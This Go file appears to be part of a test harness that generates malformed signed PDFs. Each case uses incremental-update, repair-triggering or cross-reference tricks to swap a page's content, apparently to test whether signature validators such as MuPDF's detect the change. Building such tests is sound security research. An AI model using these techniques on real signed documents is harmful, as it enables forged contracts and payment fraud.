package attacks

import (
	"fmt"
	"strings"

	"segel/pdf"
)

// More class 5 cases: bodies that only a rebuilding reader finds (inside a
// compressed object stream, behind a comment), a second trailer, a
// cross-reference stream that a strict reader cannot decode, /Prev 0.
func class5b() []spec {
	return []spec{
		{"c5-objstm-found-by-repair", "the changed annex page dictionary sits in an unlisted, Flate-compressed object stream (no header in the file's bytes); a comment in the attacker's table makes MuPDF rebuild the table, and it loads object streams it finds", c5ObjStmRepair},
		{"c5-comment-split-header", "the changed body's header is split by a comment (\"17 0 % revisi\" / \"obj\"), which a lexer-based rebuild reads; a comment in the attacker's table triggers the rebuild", c5CommentSplit},
		{"c5-second-trailer-new-root", "after the attacker's trailer comes a second trailer naming a new catalog (new objects only, no number redefined); startxref is 2 bytes off so viewers rebuild and take the last trailer", c5SecondTrailer},
		{"c5-plus-sign-header", "the changed body's header is written \"+17 0 obj\" (a signed integer a lexer accepts); a comment in the attacker's table triggers MuPDF's rebuild", c5PlusHeader},
		{"c5-xrefstream-unsupported-filter", "the final startxref names a RunLengthDecode cross-reference stream (the annex page in a new object stream); an empty table with the old catalog sits within 64 bytes before it", c5XRefStmFilter(xsRunLength)},
		{"c5-xrefstream-without-type", "the final startxref names a cross-reference stream without /Type /XRef (the annex page in a new object stream); an empty table sits within 64 bytes before it", c5XRefStmFilter(xsNoType)},
		{"c5-xrefstream-raw-deflate", "the final startxref names a cross-reference stream whose /FlateDecode data has no zlib header (raw deflate); an empty table sits within 64 bytes before it", c5XRefStmFilter(xsRawDeflate)},
		{"c5-prev-zero", "the attacker's section (a new /Info) has /Prev 0; the changed content stream is an unlisted body", c5PrevZero},
	}
}

func c5ObjStmRepair(e Env, c *Case) {
	p, s := e.attackBase()
	c.Signed = s
	a := newUpd(s)
	evil := a.add(evilBody())
	a.add(objStmFlate([]member{{p.page4, format(with(dictOf(s, p.page4), "Contents", r(evil)))}}))
	info := a.add(infoObj)
	c.File = a.finishText("% bagian perubahan\n"+tableText([]xent{{num: info, off: a.offs[info]}}, stdLine), "/Info "+ref(info), 0)
}

func c5CommentSplit(e Env, c *Case) {
	p, s := e.attackBase()
	c.Signed = s
	a := newUpd(s)
	a.raw(fmt.Sprintf("%d 0 %% revisi\nobj\n%s\nendobj\n", p.page4Cont, evilBody()))
	info := a.add(infoObj)
	c.File = a.finishText("% bagian perubahan\n"+tableText([]xent{{num: info, off: a.offs[info]}}, stdLine), "/Info "+ref(info), 0)
}

// newTree writes in a a new catalog, page tree root and annex page showing
// the new amount (all new object numbers) and returns the catalog.
func (p *pks) newTree(a *upd, signed []byte) uint32 {
	cat, pages, page := a.alloc(), a.alloc(), a.alloc()
	cont := a.add(evilBody())
	a.put(page, format(with(dictOf(signed, p.page4), "Parent", r(pages), "Contents", r(cont))))
	var kids []string
	for _, k := range p.kids {
		kids = append(kids, ref(k.(pdf.Ref).Num))
	}
	kids = append(kids, ref(page))
	a.put(pages, fmt.Sprintf("<< /Type /Pages /Kids [%s] /Count %d >>", strings.Join(kids, " "), len(kids)))
	a.put(cat, format(with(dictOf(signed, p.catalog), "Pages", r(pages))))
	return cat
}

func c5SecondTrailer(e Env, c *Case) {
	p, s := e.attackBase()
	c.Signed = s
	a := newUpd(s)
	cat := p.newTree(a, s)
	info := a.add(infoObj)
	x := a.at()
	a.raw("xref\n" + tableText([]xent{{num: info, off: a.offs[info]}}, stdLine) + "trailer\n" + a.trailerDict("/Info "+ref(info)) + "\n")
	a.raw("trailer\n" + a.trailerDict("/Info "+ref(info)+" /Root "+ref(cat)) + "\n")
	a.raw(fmt.Sprintf("startxref\n%d\n%%%%EOF\n", x+2))
	c.File = a.b
}

// How the final cross-reference stream of c5XRefStmFilter is made
// unreadable to a strict reader.
const (
	xsRunLength  = iota // /RunLengthDecode
	xsNoType            // no /Type /XRef
	xsRawDeflate        // /FlateDecode without the zlib header
)

func c5XRefStmFilter(how int) func(e Env, c *Case) {
	return func(e Env, c *Case) {
		p, s := e.attackBase()
		c.Signed = s
		a := newUpd(s)
		evil := a.add(evilBody())
		stm := a.add(objStmFlate([]member{{p.page4, format(with(dictOf(s, p.page4), "Contents", r(evil)))}}))
		xs := a.alloc()
		root, info := ref(a.tr["Root"].(pdf.Ref).Num), ref(a.tr["Info"].(pdf.Ref).Num)
		// The empty table, short enough to lie within 64 bytes of the
		// stream's offset.
		a.raw(fmt.Sprintf("xref\ntrailer\n<</Size %d/Root %s/Info %s/Prev %d>>\n", a.next, root, info, a.prev))
		rows := []xrow{{num: p.page4, typ: 2, off: int64(stm)}, {num: evil, typ: 1, off: a.offs[evil]}, {num: stm, typ: 1, off: a.offs[stm]}}
		data := xrefRows(rows)
		typ, filter := "/Type /XRef ", ""
		switch how {
		case xsRunLength:
			filter, data = "/Filter /RunLengthDecode ", runLength(data)
		case xsNoType:
			typ = ""
		case xsRawDeflate:
			z := deflate(data)
			filter, data = "/Filter /FlateDecode ", z[2:len(z)-4]
		}
		off := a.at()
		a.raw(fmt.Sprintf("%d 0 obj\n<< %s/W [1 4 2] /Index [%d 1 %d 1 %d 1] /Size %d /Root %s /Info %s /Prev %d %s/Length %d >>\nstream\n%s\nendstream\nendobj\n",
			xs, typ, p.page4, evil, stm, a.next, root, info, a.prev, filter, len(data), data))
		a.raw(fmt.Sprintf("startxref\n%d\n%%%%EOF\n", off))
		c.File = a.b
	}
}

func c5PrevZero(e Env, c *Case) {
	p, s := e.attackBase()
	c.Signed = s
	a := newUpd(s)
	a.put(p.page4Cont, evilBody())
	info := a.add(infoObj)
	c.File = a.finishTable([]xent{{num: info, off: a.offs[info]}}, stdLine, "/Info "+ref(info)+" /Prev 0")
}

func c5PlusHeader(e Env, c *Case) {
	p, s := e.attackBase()
	c.Signed = s
	a := newUpd(s)
	a.raw(fmt.Sprintf("+%d 0 obj\n%s\nendobj\n", p.page4Cont, evilBody()))
	info := a.add(infoObj)
	c.File = a.finishText("% bagian perubahan\n"+tableText([]xent{{num: info, off: a.offs[info]}}, stdLine), "/Info "+ref(info), 0)
}
